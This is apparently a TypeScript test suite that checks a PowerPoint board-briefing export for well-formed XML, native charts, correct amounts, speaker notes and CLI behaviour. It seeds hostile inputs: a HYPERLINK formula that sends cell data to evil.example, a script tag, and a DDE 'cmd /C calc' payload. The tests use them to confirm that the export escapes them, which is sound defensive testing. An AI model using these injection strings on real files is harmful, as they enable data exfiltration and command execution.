import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { boardMoney, boardSignedMoney, money, pct, signedMoney } from '../../../shared/export/format';
import type { PackData, PackExportResult } from '../../../shared/export/packTypes';
import { isFormulaLike } from '../../../shared/export/safeText';
import { runCli } from '../../../electron/cli/main';
import { loadPackData } from '../../../electron/pack/data';
import { exportPack } from '../../../electron/pack/export';
import { sha256File } from '../../../electron/pack/hash';
import { buildDeck } from '../../../electron/pack/pptx/deck';
import { setCommentary } from '../../../electron/store/commentary';
import { updateSettings } from '../../../electron/store/settings';
import { OUTPUT_DIR } from '../../helpers/browser';
import { tempDir, tempWorkspace } from '../../helpers/tempWorkspace';
import { chartAxisIds, openZip, parseStrict, partsMatching, runs, text } from './deckXml';
import { greyPng, renderPages } from './helpers';

const PERIOD = 'FY2026-Q3';
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script> & Co';
const EVIL_COMMENT = '+cmd|\' /C calc\'!A0 <b>bold</b> & "quotes"\u0001\u0007 bell\u000b tab\there';

/** Every micro-unit amount in the pack data (walked generically: the report model and the changes). */
function modelMicros(r: PackData): Set<number> {
  const out = new Set<number>();
  const walk = (v: unknown, key: string): void => {
    if (
      typeof v === 'number' &&
      Number.isInteger(v) &&
      /micro|budget|actual|cost|benefit|change|from|to|amount|median|deviation/i.test(key)
    )
      out.add(v);
    else if (Array.isArray(v)) v.forEach((x) => walk(x, key));
    else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
  };
  walk(r, '');
  return out;
}

describe('PowerPoint deck from the demo workspace (hostile names and commentary)', () => {
  const ws = tempWorkspace({ demo: true });
  const outDir = path.join(ws.dir, 'packs');
  let result: PackExportResult;
  let deckFile: string;
  let zip: JSZip;
  let slides: string[];

  beforeAll(async () => {
    ws.db.prepare("UPDATE initiatives SET name = ? WHERE name = 'Fraud Detection Uplift'").run(EVIL_NAME);
    setCommentary(ws.db, { period: PERIOD, scope: 'risks', ref: '', body: EVIL_COMMENT });
    setCommentary(ws.db, {
      period: PERIOD,
      scope: 'decisions',
      ref: '',
      body: '@SUM(1+1)\nApprove the FY2027 AI budget',
    });
    result = await exportPack(
      ws,
      {
        period: PERIOD,
        pdf: false,
        xlsx: false,
        pptx: true,
        allowUncommentedRed: true,
        outDir,
        packDate: '2026-10-12',
      },
      { render: () => Promise.reject(new Error('the deck alone must not start Chromium')) },
    );
    deckFile = result.files.find((f) => f.kind === 'pptx')!.path;
    zip = await openZip(fs.readFileSync(deckFile));
    slides = partsMatching(zip, /^ppt\/slides\/slide\d+\.xml$/);
  }, 120_000);
  afterAll(() => ws.close());

  it('is written atomically under the pack name, hashed, and recorded in the snapshot (no Chromium needed)', () => {
    expect(result.files.map((f) => f.kind)).toEqual(['pptx']);
    const f = result.files[0]!;
    expect(f.name).toBe(`AI Board Briefing ${PERIOD}.pptx`);
    expect(sha256File(f.path)).toBe(f.sha256);
    expect(fs.statSync(f.path).size).toBe(f.bytes);
    expect(result.snapshot.files).toEqual(result.files);
    expect(fs.readdirSync(outDir).filter((n) => n.endsWith('.partial'))).toEqual([]);
  });

  it('every XML part (slides, notes, charts, masters, embedded workbooks) is well-formed', async () => {
    const xmlParts = partsMatching(zip, /\.(xml|rels)$/);
    expect(xmlParts.length).toBeGreaterThan(50);
    for (const name of xmlParts) parseStrict(await text(zip, name), name);
    for (const name of partsMatching(zip, /^ppt\/embeddings\/.+\.xlsx$/)) {
      const inner = await openZip(await zip.file(name)!.async('uint8array'));
      for (const part of partsMatching(inner, /\.(xml|rels)$/))
        parseStrict(await text(inner, part), `${name}!${part}`);
    }
  });

  it('every chart is native: axis ids resolve both ways, and its data is an embedded workbook with no formulas', async () => {
    const charts = partsMatching(zip, /^ppt\/charts\/chart\d+\.xml$/);
    expect(charts.length).toBeGreaterThanOrEqual(5);
    for (const name of charts) {
      const xml = await text(zip, name);
      const { referenced, declared } = chartAxisIds(xml);
      expect(referenced.length, name).toBeGreaterThan(0);
      expect([...new Set(referenced)].sort(), name).toEqual([...new Set(declared)].sort());
      expect(xml, name).not.toMatch(/<c:v><\/c:v>/);
      const rels = await text(zip, name.replace('charts/', 'charts/_rels/') + '.rels');
      const target = /Target="\.\.\/embeddings\/([^"]+\.xlsx)"/.exec(rels)?.[1];
      expect(target, `${name} has an embedded workbook`).toBeTruthy();
      expect(xml).toContain('<c:externalData r:id=');
      const inner = await openZip(await zip.file(`ppt/embeddings/${target}`)!.async('uint8array'));
      const sheet = await text(inner, 'xl/worksheets/sheet1.xml');
      expect(sheet).not.toMatch(/<f[ >]/);
      for (const s of runsOfSst(await text(inner, 'xl/sharedStrings.xml')))
        expect(isFormulaLike(s), s).toBe(false);
    }
    // No picture stands in for a chart: the deck carries no images (the demo has no logo).
    expect(partsMatching(zip, /^ppt\/media\/.+/)).toEqual([]);
  });

  it('hostile names and commentary appear as literal text, never as markup or formulas', async () => {
    const all = (await Promise.all(slides.map((s) => text(zip, s)))).join('\n');
    const texts = (await Promise.all(slides.map(async (s) => runs(await text(zip, s))))).flat();
    expect(all).not.toContain('<script>');
    expect(all).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(texts).toContain(EVIL_NAME);
    expect(texts).toContain('+cmd|\' /C calc\'!A0 <b>bold</b> & "quotes" bell tab here');
    expect(texts).toContain('@SUM(1+1)');
    // In a chart's embedded data the name is neutralised like the Excel pack's cells.
    const charts = await Promise.all(
      partsMatching(zip, /^ppt\/charts\/chart\d+\.xml$/).map((n) => text(zip, n)),
    );
    expect(charts.join('')).toContain(`&apos;=HYPERLINK(`);
  });

  it('shows the report model’s figures formatted as the PDF formats them (whole units), and no other amounts', async () => {
    const data = loadPackData(ws.db, PERIOD);
    const r = data.report;
    const c = r.currency;
    const texts = (await Promise.all(slides.map(async (s) => runs(await text(zip, s))))).flat().join('\n');
    const expected = [
      boardMoney(r.portfolio.cost.micro, c),
      boardMoney(r.portfolio.benefit.micro, c),
      pct(r.portfolio.roi.value),
      pct(r.portfolio.cumulativeRoi.value),
      boardMoney(r.portfolio.npv.micro, c),
      boardMoney(r.budget.forecastYearEnd.micro, c),
      boardMoney(r.budget.annualBudget.micro, c),
      boardSignedMoney(r.budget.variance.micro, c),
      ...r.initiatives.flatMap((i) => [
        boardMoney(i.cost.micro, c),
        boardMoney(i.benefit.micro, c),
        boardMoney(i.npv.micro, c),
      ]),
      ...r.budget.byCategory.map((b) => boardSignedMoney(b.variance.micro, c)),
    ];
    for (const s of expected) expect(texts, s).toContain(s);
    expect(texts).toContain('Whole US dollars; totals rounded independently');
    // Every amount on a slide is one of the model's amounts (whole units, or to the cent where a warning
    // written by the report quotes one): nothing re-derived.
    const shown = new Set(modelMicros(data));
    const allowed = new Set(
      [...shown].flatMap((m) => [
        boardMoney(m, c),
        boardSignedMoney(m, c),
        boardMoney(-m, c),
        money(m, c),
        signedMoney(m, c),
      ]),
    );
    const amounts = texts.match(/[+-]?\$\d(?:[\d,]*\d)?(?:\.\d\d)?(?!\d|\.\d|\w)/g) ?? [];
    expect(amounts.length).toBeGreaterThan(80);
    expect(
      amounts.filter((a) => /\.\d\d$/.test(a)),
      'amounts to the cent on the slides',
    ).toEqual([]);
    for (const a of amounts) expect(allowed.has(a) || allowed.has(a.replace(/^\+/, '')), a).toBe(true);
  });

  it('every slide has speaker notes; content slides explain their figures with formulas and source files', async () => {
    for (const s of slides) {
      const rels = await text(zip, s.replace('slides/', 'slides/_rels/') + '.rels');
      const notes = /Target="\.\.\/notesSlides\/(notesSlide\d+\.xml)"/.exec(rels)?.[1];
      expect(notes, s).toBeTruthy();
      const body = runs(await text(zip, `ppt/notesSlides/${notes}`)).join('\n');
      expect(body.trim().length, s).toBeGreaterThan(40);
    }
    const summaryNotes = runs(await text(zip, 'ppt/notesSlides/notesSlide2.xml')).join('\n');
    expect(summaryNotes).toMatch(/Formula: /);
    expect(summaryNotes).toMatch(/Source files:[\s\S]*#\d+ Demo data: /);
    expect(summaryNotes).toMatch(/SHA-256 [0-9a-f]{64}/);
  });

  it('the CLI writes the deck with --pptx (and only the deck); help names the flag', async () => {
    const out: string[] = [];
    const io = { out: (t: string) => out.push(t), err: (t: string) => out.push(t) };
    const dir = tempDir();
    expect(
      await runCli(
        ['pack', '--db', ws.file, '--period', PERIOD, '--out', dir, '--pptx', '--allow-uncommented-red'],
        io,
      ),
    ).toBe(0);
    expect(fs.readdirSync(dir)).toEqual([`AI Board Briefing ${PERIOD}.pptx`]);
    out.length = 0;
    await runCli(['help'], io);
    expect(out.join('\n')).toMatch(/--pptx/);
  }, 120_000);

  const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
  it.skipIf(!soffice)(
    'LibreOffice Impress converts it to a PDF with one page per slide (pages rendered for a person to look at)',
    () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'caio-deck-lo-'));
      const home = path.join(dir, 'home');
      fs.mkdirSync(home);
      const copy = path.join(dir, 'deck.pptx');
      fs.copyFileSync(deckFile, copy);
      const run = spawnSync(
        'soffice',
        ['--headless', '--norestore', '--convert-to', 'pdf', '--outdir', dir, copy],
        {
          encoding: 'utf8',
          env: { ...process.env, HOME: home },
          timeout: 240_000,
        },
      );
      expect(run.status, run.stderr).toBe(0);
      const pdf = path.join(dir, 'deck.pdf');
      expect(fs.existsSync(pdf), run.stdout + run.stderr).toBe(true);
      const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' }))?.[1]);
      expect(pages).toBe(slides.length);
      const textOut = execFileSync('pdftotext', ['-layout', pdf, '-'], { encoding: 'utf8' });
      expect(textOut).toContain('KPI scorecard');
      expect(textOut).toContain('Spend vs budget by month');
      renderPages(pdf, path.join(OUTPUT_DIR, 'deck'), 'deck', 50);
      fs.rmSync(dir, { recursive: true, force: true });
    },
    300_000,
  );
});

describe('deck details', () => {
  it('a PNG logo from Settings is on the master, keeping its proportions', async () => {
    const ws = tempWorkspace({ demo: true });
    try {
      updateSettings(ws.db, {
        logoDataUrl: `data:image/png;base64,${greyPng(40, 10, 0x80).toString('base64')}`,
      });
      const data = loadPackData(ws.db, PERIOD);
      const zip = await openZip(await buildDeck(data, '2026-10-12'));
      const masters = await Promise.all(
        partsMatching(zip, /^ppt\/slideLayouts\/slideLayout\d+\.xml$/).map((n) => text(zip, n)),
      );
      expect(masters.join('')).toMatch(/<p:pic>/);
      // 40×10 px in a 1.6 × 0.55 in box: 1.6 in wide, 0.4 in high (EMU).
      expect(masters.join('')).toContain('<a:ext cx="1463040" cy="365760"/>');
      expect(partsMatching(zip, /^ppt\/media\/.+/).length).toBeGreaterThan(0);
    } finally {
      ws.close();
    }
  }, 60_000);
});

function runsOfSst(xml: string): string[] {
  return [...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((m) =>
    m[1]!
      .replace(/&apos;/g, "'")
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&amp;/g, '&'),
  );
}
